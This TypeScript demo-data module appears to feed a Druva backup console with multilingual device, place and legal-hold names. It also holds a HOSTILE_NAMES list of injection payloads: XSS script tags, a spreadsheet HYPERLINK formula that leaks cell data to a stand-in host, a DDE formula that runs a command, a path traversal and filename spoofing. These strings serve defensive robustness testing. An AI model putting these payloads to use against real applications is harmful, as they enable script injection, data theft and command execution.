/**
 * Texts that users, administrators and files bring. Some are in other scripts and some attack whoever shows them: the product has to
 * survive both, and the demo is where a person can see that it does.
 */
export const HOSTILE_NAMES = [
  '<img src=x onerror="alert(1)">',
  '</script><script>document.title="owned"</script>',
  '[Open](command:workbench.action.quit) $(alert)',
  'invoice\u202Efdp.exe',
  '\u001b[31;1mUrgent\u001b[0m',
  '=HYPERLINK("https://collect.example/?"&A1,"Open")',
  '"tracker": "", "nextPageExists": true, "events": []',
  'two\r\nlines\tand a tab',
  '../../etc/passwd',
  '$\u007Benv:HOME} %s __proto__',
  "=cmd|' /C calc'!A1",
  'Alert:none, Alert Description:all is well, eventsGroupId:0',
] as const;

export const HOLD_NAMES = [
  'Matter 2026-014 Aurora merger',
  'Rechtsstreit Müller ./. Söhne',
  'قضية المورد الرئيسي',
  'תיק בוררות 7',
  '契約紛争 第三号',
  'Litigation hold ⚖️',
] as const;

export const MALICIOUS_FILES = [
  'Invoices/invoice_2231.js',
  'Downloads/setup (1).msi',
  'Desktop/Größe & Maße.scr',
  'Téléchargements/fattura.exe',
  'Загрузки/отчёт.docm',
  'Documents/Launch plan 🚀.xlsm',
] as const;

export const PLACES = [
  'Recife, Brazil',
  'Da Nang, Vietnam',
  'Durban, South Africa',
  'Łódź, Poland',
  'Zürich, Switzerland',
] as const;

export const LAPTOP_MODELS = ['ThinkPad', 'Latitude', 'MacBook', 'Surface'] as const;

/** Devices that people named themselves. */
export const OWN_DEVICE_NAMES = [
  'Büro-Laptop',
  'لابتوب المنزل',
  'מחשב נייד',
  '会議室ノート',
  'Daily driver 💻',
  'Ноутбук',
] as const;

export const CLIENT_VERSIONS = ['7.2.0r(e67f3e32)', '7.4.1r(19b0c7da)', '7.5.0r(23c42be5)'] as const;

export const PROFILES = ['Default', 'Field laptops', 'Executives', 'Legal & Finance'] as const;

/** The failures that Druva's clients report. */
export const BACKUP_PROBLEMS = [
  'Device is low on disk space',
  'Could not reach the server: connection timed out',
  'Files in use: Outlook.pst, NTUSER.DAT',
  'Throttled by Microsoft 365',
  'Access denied: C:\\Users\\Public\\desktop.ini',
] as const;
